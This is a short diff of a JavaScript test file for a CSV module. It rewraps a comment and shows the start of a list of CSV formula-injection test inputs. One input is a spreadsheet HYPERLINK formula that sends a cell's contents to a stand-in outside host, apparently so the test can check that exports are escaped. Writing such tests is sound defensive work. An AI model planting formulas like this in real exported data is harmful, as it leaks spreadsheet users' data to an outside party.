@@ -15,7 +15,8 @@ describe("CSV", () => {
     expect(parse(csv(rows))).toEqual(rows.map((row) => row.map((cell) => String(cell ?? ""))));
   });
 
-  // The first four are those of OWASP's page on CSV injection, from memory; the others go around a check of the first character.
+  // The first four are those of OWASP's page on CSV injection, from memory; the others go around a check of the first
+  // character.
   it.each([
     '=HYPERLINK("http://example.org/?"&A1,"Waist")',
     "=1+1",
